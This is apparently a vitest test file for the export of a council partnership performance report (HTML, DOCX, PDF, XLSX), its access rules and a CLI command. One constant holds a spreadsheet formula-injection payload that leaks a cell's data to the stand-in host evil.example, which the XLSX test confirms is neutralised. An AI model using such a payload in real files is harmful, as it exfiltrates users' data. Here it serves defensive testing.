/**
 * The six-monthly performance report through the API on a real database (PGlite and PostgreSQL),
 * each file read back by a library other than the one that wrote it (mammoth for the DOCX,
 * pdf.js for the PDF, SheetJS for the XLSX) and the DOCX opened by LibreOffice when it is
 * installed. The test opens its own round, 2010/11 H1, with NI 47's 12 district values, NI 155's
 * county count and text updates, as the demo's figures are not there yet; the public must not
 * get the report until the round is published.
 */
import { execFile } from "node:child_process";
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { promisify } from "node:util";
import { sql } from "drizzle-orm";
import { Command } from "commander";
import mammoth from "mammoth";
import { read as readWorkbook, utils as sheetUtils } from "xlsx";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { actorForUser } from "../../src/features/auth/actors.js";
import { indicatorScope } from "../../src/features/indicators/scope.js";
import { recordObservation } from "../../src/features/observations/service.js";
import { RecordObservationBody } from "../../src/features/observations/schema.js";
import type { Dashboard } from "../../src/features/performance/schema.js";
import { registerReportCommands } from "../../src/cli/report.js";
import type { Actor } from "../../src/policy/authorize.js";
import { createTestApp } from "../support/app.js";
import type { TestApp } from "../support/app.js";
import { send, signIn } from "../support/session.js";
import type { Session } from "../support/session.js";
import { queryRows } from "../support/sql.js";

let api: TestApp;
let manager: Session;
let folder: string;
const people = {} as Record<"manager" | "officer" | "lsp", Actor>;
const ka2 = "/api/agreements/kent-ka2";
const kent = "E10000016";
const thanet = "E07000114";
const report = `${ka2}/rounds/2010-11-h1/report`;
const formula = '=HYPERLINK("http://evil.example/?"&A1,"Next")';

/** NI 47 in 2010/11 H1 by district; 720 in all, amber against the trajectory (performance.test.ts). */
const ni47: Record<string, string> = {
  E07000105: "55",
  E07000106: "70",
  E07000107: "40",
  E07000108: "50",
  E07000109: "35",
  E07000110: "80",
  E07000111: "60",
  E07000112: "45",
  E07000113: "75",
  E07000114: "65",
  E07000115: "70",
  E07000116: "75",
};
const update = {
  progress: "Casualty reduction schemes on the A2 and A28 are complete; KSI down to 720 countywide.",
  issuesAndRisks: "Motorcycle casualties in Swale and Maidstone remain high.",
  nextActions: formula,
};

async function actorFor(email: string): Promise<Actor> {
  const [row] = await queryRows(api.database.db, sql`select id from users where email = ${email}`);
  const actor = await actorForUser(api.database.db, Number(row?.id));
  if (!actor) throw new Error(`no demo user ${email}`);
  return actor;
}

async function record(actor: Actor, key: string, body: Record<string, unknown>) {
  const scope = await indicatorScope(api.database.db, "kent-ka2", key);
  return recordObservation({ db: api.database.db, actor, scope, body: RecordObservationBody.parse(body) });
}

/** A text update written as the returns service will keep it (its routes are not on main yet). */
async function writeReturn(key: string, status: string, text: { progress: string; issuesAndRisks: string; nextActions: string }) {
  await api.database.db.execute(sql`
    insert into indicator_returns (round_id, agreement_indicator_id, status, progress, issues_and_risks, next_actions, submitted_by_name, submitted_at)
    select r.id, ai.id, ${status}, ${text.progress}, ${text.issuesAndRisks}, ${text.nextActions}, 'NI 47 officer', '2010-11-05T10:00:00Z'
    from monitoring_rounds r join reporting_periods p on p.id = r.period_id join agreements a on a.id = r.agreement_id
    join agreement_indicators ai on ai.agreement_id = a.id join indicator_definitions d on d.id = ai.indicator_id
    where a.slug = 'kent-ka2' and p.label = '2010/11 H1' and d.key = ${key}`);
}

/** A download as the browser gets it: status, headers and the bytes. */
async function get(session: Session | null, url: string) {
  const response = await api.app.inject({ method: "GET", url, headers: session ? { cookie: session.cookie } : {} });
  return { status: response.statusCode, headers: response.headers, raw: response.rawPayload, text: () => response.body };
}

async function download(session: Session | null, format: string): Promise<Buffer> {
  const answer = await get(session, `${report}?format=${format}`);
  expect(answer.status, `${format}: ${answer.text().slice(0, 300)}`).toBe(200);
  return answer.raw;
}

const squash = (text: string) => text.replace(/\s+/g, " ").trim();

async function pdfText(buffer: Buffer): Promise<string> {
  const pdfjs = await import("pdfjs-dist/legacy/build/pdf.mjs");
  const document = await pdfjs.getDocument({ data: new Uint8Array(buffer), isEvalSupported: false }).promise;
  const pages: string[] = [];
  for (let number = 1; number <= document.numPages; number += 1) {
    const content = await (await document.getPage(number)).getTextContent();
    pages.push(content.items.map((item) => ("str" in item ? `${item.str}${item.hasEOL ? "\n" : " "}` : "")).join(""));
  }
  await document.destroy();
  return squash(pages.join("\n"));
}

/** What the manager's dashboard says of the round: the themes, and the indicators with a value. */
let dashboard: Dashboard;
const themes = () => [...new Set(dashboard.indicators.map((row) => row.theme))];
const valued = () => dashboard.indicators.filter((row) => row.actual !== null && row.period === "2010/11 H1");

beforeAll(async () => {
  api = await createTestApp();
  folder = mkdtempSync(join(tmpdir(), "accord-report-"));
  manager = await signIn(api.app, "manager@kent-partnership.example");
  people.manager = await actorFor("manager@kent-partnership.example");
  people.officer = await actorFor("officer.ni47@kent-partnership.example");
  people.lsp = await actorFor("lsp.thanet@kent-partnership.example");
  const opened = await send(api.app, manager, { method: "POST", url: `${ka2}/rounds`, body: { period: "2010/11 H1" } });
  expect(opened.status).toBe(201);
  for (const [area, value] of Object.entries(ni47)) await record(area === thanet ? people.lsp : people.officer, "ni-47", { period: "2010/11 H1", area, value });
  await record(people.manager, "ni-155", { period: "2010/11 H1", area: kent, value: "700" });
  await writeReturn("ni-47", "submitted", update);
  await writeReturn("ni-155", "draft", { progress: "Draft words not yet agreed", issuesAndRisks: "", nextActions: "" });
  const answer = await send(api.app, manager, { method: "GET", url: `${ka2}/performance?round=2010-11-h1` });
  dashboard = answer.json<Dashboard>();
  expect(valued().map((row) => row.code)).toEqual(expect.arrayContaining(["NI 47", "NI 155"]));
});
afterAll(async () => {
  await api?.close();
  if (folder) rmSync(folder, { recursive: true, force: true });
});

describe("the performance report of KA2 2010/11 H1", () => {
  it("as printable HTML: every theme, every indicator with a value, NI 47's chart drawn as SVG and its amber status, the text update; no scripts", async () => {
    const answer = await get(manager, `${report}?format=html`);
    expect(answer.status).toBe(200);
    expect(answer.headers["content-security-policy"]).toContain("default-src 'none'");
    const html = answer.text();
    expect(html).not.toMatch(/<script/i);
    for (const theme of themes()) expect(html).toContain(theme.replace(/&/g, "&amp;").replace(/'/g, "&#39;"));
    for (const row of valued()) expect(html).toContain(`${row.code} `);
    const ni47Section = html.slice(html.indexOf('<section class="indicator" id="ni-47"'));
    expect(ni47Section).toMatch(/^<section class="indicator" id="ni-47"><h3>NI 47 [^<]+<\/h3><figure><svg/);
    expect(ni47Section.slice(0, 200_000)).toContain("Amber: behind the planned trajectory, within tolerance");
    expect(html).toContain(update.issuesAndRisks);
    // A draft is not yet the officer's word.
    expect(html).not.toContain("Draft words not yet agreed");
    expect(html).toContain("The text update is not yet submitted (draft).");
  });

  it("as DOCX read back by mammoth: every theme and indicator with a value, NI 47's chart as a picture (SVG with a PNG copy) described in words, its status and text update", async () => {
    const docx = await download(manager, "docx");
    const names = docx.toString("latin1");
    expect(names).toMatch(/word\/media\/[^\s]+\.svg/);
    expect(names).toMatch(/word\/media\/[^\s]+\.png/);
    const { value: html } = await mammoth.convertToHtml({ buffer: docx });
    const text = squash(html.replace(/<img[^>]*>/g, " [picture] ").replace(/<[^>]+>/g, " ").replace(/&amp;/g, "&").replace(/&quot;/g, '"').replace(/&#39;/g, "'"));
    expect(text).toContain("Kent Agreement 2 — performance report, 2010/11 H1");
    for (const theme of themes()) expect(text).toContain(theme);
    for (const row of valued()) expect(text).toContain(`${row.code} ${row.title}`);
    // The heading, the picture, the chart's sentence, then the figures.
    const heading = "NI 47 People killed or seriously injured in road traffic accidents [picture] NI 47 ";
    expect(text).toContain(heading);
    const ni47 = text.slice(text.indexOf(heading));
    expect(html).toMatch(/<img [^>]*alt="NI 47 [^"]*720/);
    expect(ni47).toContain("Status Amber: behind the planned trajectory, within tolerance");
    expect(ni47).toContain("Latest value 720 (2010/11 H1) Planned at that date 689.8");
    expect(ni47).toContain(update.progress);
    expect(ni47).toContain("Thanet");
  });

  it("as PDF read back by pdf.js: every theme and indicator with a value, NI 47's chart, status and text update", async () => {
    const pdf = await download(manager, "pdf");
    expect(pdf.subarray(0, 5).toString("latin1")).toBe("%PDF-");
    const text = await pdfText(pdf);
    for (const theme of themes()) expect(text).toContain(squash(theme));
    for (const row of valued()) expect(text).toContain(`${row.code} `);
    expect(text).toContain("NI 47 People killed or seriously injured");
    // The chart's own words (its legend and the sentence under it) are text in the PDF.
    expect(text).toMatch(/Kent actual/);
    expect(text).toContain("Amber: behind the planned trajectory, within tolerance");
    expect(text).toContain(squash(update.issuesAndRisks));
  }, 120_000);

  it("as XLSX of the figures read back by SheetJS: NI 47's 720 as a number, its status, 12 districts ranked, a formula in a text update neutralised", async () => {
    const workbook = readWorkbook(await download(manager, "xlsx"), { type: "buffer" });
    expect(workbook.SheetNames).toEqual(["Report", "Indicators", "Districts"]);
    const indicators = sheetUtils.sheet_to_json<Record<string, unknown>>(workbook.Sheets.Indicators ?? {}, { defval: null });
    const row = indicators.find((one) => one.Indicator === "NI 47");
    expect(row).toMatchObject({ "Latest value": 720, Period: "2010/11 H1", Status: expect.stringMatching(/^Amber/) });
    expect(row?.["Next actions"]).toBe(`'${formula}`);
    const districts = sheetUtils.sheet_to_json<Record<string, unknown>>(workbook.Sheets.Districts ?? {}, { defval: null }).filter((one) => one.Indicator === "NI 47");
    expect(districts).toHaveLength(12);
    expect(districts.find((one) => one.District === "Thanet")).toMatchObject({ Value: 65, Rank: 7, "County value": 720 });
  });

  it.runIf(existsSync("/usr/bin/soffice"))("opens in LibreOffice: the DOCX converted to text holds NI 47 and its text update", async () => {
    const file = join(folder, "report.docx");
    writeFileSync(file, await download(manager, "docx"));
    await promisify(execFile)("/usr/bin/soffice", ["--headless", `-env:UserInstallation=file://${join(folder, "lo-profile")}`, "--convert-to", "txt:Text", "--outdir", folder, file], { timeout: 120_000 });
    const text = squash(readFileSync(join(folder, "report.txt"), "utf8"));
    expect(text).toContain("NI 47 People killed or seriously injured");
    expect(text).toContain(update.progress);
  }, 150_000);

  it("names the format when it is not one the report is written in", async () => {
    const answer = await get(manager, `${report}?format=odt`);
    expect(answer.status).toBe(400);
    expect(answer.text()).toMatch(/format/);
  });
});

describe("the report of the demo's published 2008/09 H1 round, as the public reads it", () => {
  it("DOCX: the illustrative-figures marker on the cover, every theme, every indicator with a value, NI 47's chart and red status, and the accepted text updates", async () => {
    const view = (await send(api.app, null, { method: "GET", url: `${ka2}/performance?round=2008-09-h1` })).json<Dashboard>();
    expect(view.illustrative).toBe("Illustrative figures, not Kent's published results");
    const { value: html } = await mammoth.convertToHtml({ buffer: (await get(null, `${ka2}/rounds/2008-09-h1/report?format=docx`)).raw });
    const text = squash(html.replace(/<img[^>]*>/g, " [picture] ").replace(/<[^>]+>/g, " ").replace(/&amp;/g, "&").replace(/&quot;/g, '"').replace(/&#39;/g, "'"));
    const cover = text.slice(0, text.indexOf("Summary of statuses"));
    expect(cover).toContain("Kent Agreement 2 — performance report, 2008/09 H1");
    expect(cover).toContain("Illustrative figures, not Kent's published results");
    for (const theme of new Set(view.indicators.map((row) => row.theme))) expect(text).toContain(theme);
    const withValues = view.indicators.filter((row) => row.actual !== null && row.period === "2008/09 H1");
    expect(withValues.length).toBeGreaterThan(10);
    for (const row of withValues) expect(text).toContain(`${row.code} ${row.title}`);
    const heading = "NI 47 People killed or seriously injured in road traffic accidents [picture] NI 47 ";
    expect(text).toContain(heading);
    expect(text.slice(text.indexOf(heading))).toMatch(/^[^]*?Status Red: behind the planned trajectory beyond tolerance/);
    const texts = await queryRows(
      api.database.db,
      sql`select d.code, r.progress from indicator_returns r join monitoring_rounds m on m.id = r.round_id
          join reporting_periods p on p.id = m.period_id join agreement_indicators ai on ai.id = r.agreement_indicator_id
          join indicator_definitions d on d.id = ai.indicator_id where p.label = '2008/09 H1' and r.status = 'accepted' and r.progress is not null`,
    );
    expect(texts.length).toBeGreaterThan(10);
    for (const row of texts) expect(text).toContain(squash(String(row.progress)));
  }, 120_000);

  it("PDF: the marker, every theme, every indicator with a value, NI 47's chart and red status, the text updates", async () => {
    const view = (await send(api.app, null, { method: "GET", url: `${ka2}/performance?round=2008-09-h1` })).json<Dashboard>();
    const text = await pdfText((await get(null, `${ka2}/rounds/2008-09-h1/report?format=pdf`)).raw);
    expect(text).toContain("Illustrative figures, not Kent's published results");
    for (const theme of new Set(view.indicators.map((row) => row.theme))) expect(text).toContain(squash(theme));
    for (const row of view.indicators.filter((one) => one.actual !== null && one.period === "2008/09 H1")) expect(text).toContain(`${row.code} `);
    const ni47 = text.slice(text.lastIndexOf("NI 47 People killed or seriously injured"));
    expect(ni47).toMatch(/Kent actual/);
    expect(ni47).toContain("Red: behind the planned trajectory beyond tolerance");
    expect(ni47).toMatch(/Progress Illustrative figures, not Kent's published results\. NI 47 for 2008\/09 H1/);
  }, 120_000);
});

describe("who may read the report", () => {
  it("the public cannot get an open round's report (404, as the round itself), then can once it is published", async () => {
    expect((await get(null, `${report}?format=html`)).status).toBe(404);
    const viewer = await signIn(api.app, "member@kent.example");
    expect((await get(viewer, `${report}?format=html`)).status).toBe(200);

    const round = (await send(api.app, manager, { method: "GET", url: `${ka2}/rounds/2010-11-h1` })).json<{ version: number }>();
    const closed = await send(api.app, manager, { method: "POST", url: `${ka2}/rounds/2010-11-h1/close`, body: { version: round.version } });
    expect(closed.status, JSON.stringify(closed.body)).toBe(200);
    const published = await send(api.app, manager, { method: "POST", url: `${ka2}/rounds/2010-11-h1/publish`, body: { version: closed.json<{ version: number }>().version } });
    expect(published.status, JSON.stringify(published.body)).toBe(200);
    const answer = await get(null, `${report}?format=html`);
    expect(answer.status).toBe(200);
    expect(answer.text()).toContain("published");
    expect(answer.text()).toContain(update.progress);
  });
});

describe("accord report performance", () => {
  async function run(args: string[]): Promise<string[]> {
    const printed: string[] = [];
    const program = new Command().name("accord").exitOverride().configureOutput({ writeErr: () => undefined, writeOut: () => undefined });
    registerReportCommands(program, async (work) => work(api.database), people.manager, (text) => printed.push(text));
    await program.parseAsync(["report", "performance", ...args], { from: "user" });
    return printed;
  }

  it("writes the round's report to the file named by --out, the round named by its period", async () => {
    const out = join(folder, "ka2-2010-11-h1.pdf");
    const printed = await run(["--agreement", "kent-ka2", "--round", "2010/11 H1", "--format", "pdf", "--out", out]);
    expect(printed.join("\n")).toMatch(/Wrote kent-ka2-performance-2010-11-h1 \(pdf, \d+ kB\) to .*ka2-2010-11-h1\.pdf/);
    const text = await pdfText(readFileSync(out));
    expect(text).toContain("NI 47 People killed or seriously injured");
  }, 120_000);

  it("names --round when there is no such round, and --format when it is not one it writes", async () => {
    await expect(run(["--agreement", "kent-ka2", "--round", "2031/32 H1", "--format", "html", "--out", join(folder, "x.html")])).rejects.toMatchObject({ code: "NOT_FOUND", field: "--round" });
    await expect(run(["--agreement", "kent-ka2", "--round", "2010/11 H1", "--format", "odt", "--out", join(folder, "x.odt")])).rejects.toMatchObject({ field: "--format" });
  });
});
